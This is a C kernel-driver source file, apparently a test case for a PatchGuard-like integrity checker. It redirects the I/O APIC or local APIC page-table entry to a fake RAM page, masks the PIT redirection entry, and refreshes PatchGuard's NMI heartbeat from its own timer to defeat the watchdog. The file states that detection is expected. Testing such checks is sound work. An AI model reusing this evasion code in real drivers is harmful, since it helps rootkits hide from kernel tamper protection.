/* attack_a80_mmio_pte (A80): PatchGuard reads fake interrupt-controller
 * registers. The kernel maps the I/O APIC's and the local APIC's register
 * pages into its MMIO area; the PTEs of those pages are ordinary entries
 * of the kernel's tables. By default, masks the PIT's redirection entry at
 * the I/O APIC (the NMI watchdog's edge), then points the PTE of the I/O
 * APIC's page at a RAM page of its own whose register window (offset 0x10)
 * holds the entry as armed: delivery mode NMI, destination 0. Each read
 * of the window through the kernel's mapping, whatever the register select
 * says, returns that value. From a timer of its own on every tick it keeps
 * the NMI's heartbeat in PatchGuard's state fresh. With `lapic`, points the
 * local APIC's PTE at a RAM copy of its registers and doubles the timer's
 * divide configuration behind it (every tick twice as late). Expected:
 * 0x109 type 0x111 (the PTEs of the APICs' pages are page-table regions). */
#include "attack_pg.h"

#define IOAPIC_FRAME 0xFEC00000ull
#define IOAPIC_REDIR_PIN2 0x14
#define REDIR_MASKED (1u << 16)
#define REDIR_NMI 0x400u
#define MMIO_PAGES 256
#define LAPIC_TIMER_DIV (0x3E0 / 4)

static struct ktimer beat;
static struct dpc beat_dpc;
static struct pg_state *pgs;
static uint64_t beats;

static void keep_beat(struct dpc *d, void *ctx)
{
	pgs->nmi_beat = ticks();
	if (++beats == 20)
		printk("attack_a80: NMI heartbeat kept for 20 ticks\n");
}

/* The kernel's mapping of frame, in its MMIO area. */
static uint64_t mmio_va(uint64_t frame)
{
	for (uint64_t va = KPP_MMIO_AREA_BASE; va < KPP_MMIO_AREA_BASE + MMIO_PAGES * A_PAGE; va += A_PAGE) {
		uint64_t pte = vm_pte(va);
		if ((pte & A_PTE_P) && (pte & A_PTE_ADDR) == frame)
			return va;
	}
	return 0;
}

/* Points the PTE of va at page (direct-mapped RAM). Interrupts off. */
static bool redirect(uint64_t va, uint8_t *page)
{
	uint64_t *pte = a_pte_of(va, 0);
	if (!pte)
		return false;
	*pte = (*pte & ~A_PTE_ADDR) | (((uint64_t)page - KPP_DIRECT_MAP_BASE) & A_PTE_ADDR);
	a_invlpg(va);
	return true;
}

status_t driver_entry(struct driver_object *drv)
{
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x6F696D4D);
	if (!buf) {
		printk("attack_a80: no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint8_t *fake = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	memset(fake, 0, A_PAGE);
	bool lapic = !strcmp(drv->args, "lapic");
	uint64_t va = lapic ? mmio_va(a_rdmsr(0x1B) & 0xFFFFFF000ull) : mmio_va(IOAPIC_FRAME);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	pgs = a_find_pg();
	if (!va || !pgs || (uint64_t)fake < KPP_DIRECT_MAP_BASE) {
		a_restore(pf);
		printk("attack_a80: register page or PatchGuard's state not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	volatile uint32_t *regs = (volatile uint32_t *)va;
	if (lapic) {
		for (uint32_t off = 0; off < 0x400; off += 0x10)
			*(uint32_t *)(fake + off) = regs[off / 4];
		/* The next larger divisor: 2 << n, n encoded in bits 3 and 1:0
		 * (0xB: 1). */
		uint32_t div = regs[LAPIC_TIMER_DIV] & 0xB;
		uint32_t n = div == 0xB ? 7 : ((div & 8) >> 1 | (div & 3));
		n = n == 7 ? 0 : n + 1;
		regs[LAPIC_TIMER_DIV] = n == 7 ? 0xB : ((n & 4) << 1 | (n & 3));
		if (!redirect(va, fake)) {
			a_restore(pf);
			printk("attack_a80: no PTE\n");
			return KPP_STATUS_UNSUCCESSFUL;
		}
		printk("attack_a80: the local APIC's mapping points at a RAM copy of its registers\n");
	} else {
		regs[0] = IOAPIC_REDIR_PIN2;
		regs[4] |= REDIR_MASKED;
		*(uint32_t *)(fake + 0x10) = REDIR_NMI;
		if (!redirect(va, fake)) {
			a_restore(pf);
			printk("attack_a80: no PTE\n");
			return KPP_STATUS_UNSUCCESSFUL;
		}
		dpc_init(&beat_dpc, keep_beat, NULL);
		timer_init(&beat, &beat_dpc);
		timer_set(&beat, 10000000ull, 10000000ull);
		printk("attack_a80: the PIT's I/O APIC entry masked; its mapping points at RAM that reads as the NMI entry\n");
	}
	a_patched("attack_a80");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
